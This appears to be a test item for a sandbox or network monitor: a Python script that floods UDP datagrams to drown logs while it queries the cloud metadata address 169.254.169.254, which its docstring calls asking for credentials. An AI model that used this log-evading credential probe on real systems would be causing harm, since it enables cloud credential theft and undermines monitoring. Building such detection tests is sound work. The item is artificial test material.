"""Asks the metadata address for credentials while datagrams to elsewhere fill whatever logs them.

family: network
arguments: 169.254.169.254 80 {nonce}
judge: hit metadata {nonce}
trace: 169.254.169.254
"""

import contextlib
import os
import socket
import sys


def flood(first: int) -> None:
    """One child's datagrams."""
    end = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    for number in range(15_000):
        with contextlib.suppress(OSError):
            end.sendto(b"x", (f"198.51.100.{first}", 1024 + number))


for first in range(4):
    if os.fork() == 0:
        flood(first)
        os._exit(0)
with contextlib.suppress(OSError), socket.create_connection((sys.argv[1], int(sys.argv[2])), timeout=3) as sock:
    sock.sendall(b"GET /" + sys.argv[3].encode() + b" HTTP/1.0\r\n\r\n")
    print(sock.recv(400))
for _ in range(4):
    os.wait()
